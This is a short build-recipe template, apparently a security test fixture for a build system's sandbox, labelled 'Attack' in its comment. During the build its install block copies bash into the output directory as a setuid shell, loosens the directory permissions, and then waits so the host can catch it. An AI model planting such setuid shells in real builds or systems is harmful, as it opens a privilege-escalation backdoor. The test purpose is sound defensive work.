{#- Attack: plant a setuid copy of the shell in $out while the build runs, and keep the build
    alive a while, so the host has a chance to find it before the build ends. -#}
{% extends '//die/sh.sh' %}
{# it copies or runs the host's own programs: it reads the host #}
{% block host_view %}build{% endblock %}
{% block install %}
mkdir -p "$out/bin"
cp /bin/bash "$out/bin/sbash"
chmod 4755 "$out/bin/sbash"
chmod 2755 "$out/bin"
chmod 0777 "$out"
ls -ln "$out/bin/sbash"
echo "planted $out/bin/sbash"
sleep {{ hold | default('5') }}
{% endblock %}
